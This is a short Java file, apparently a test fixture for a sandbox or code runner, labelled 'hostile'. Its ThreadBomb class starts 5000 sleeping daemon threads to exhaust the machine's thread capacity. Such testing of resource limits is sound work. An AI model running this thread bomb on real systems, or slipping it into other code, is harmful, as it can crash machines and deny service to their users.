// hostile: starts threads until the machine has no more
// exit: 0 4
public class ThreadBomb {
    public static int spread(int depth) {
        if (depth == 3) {
            for (int i = 0; i < 5000; i++) {
                Thread thread = new Thread(() -> {
                    try {
                        Thread.sleep(20_000);
                    } catch (InterruptedException ended) {
                        Thread.currentThread().interrupt();
                    }
                });
                thread.setDaemon(true);
                thread.start();
            }
        }
        return depth < 0 ? 0 : depth;
    }
}
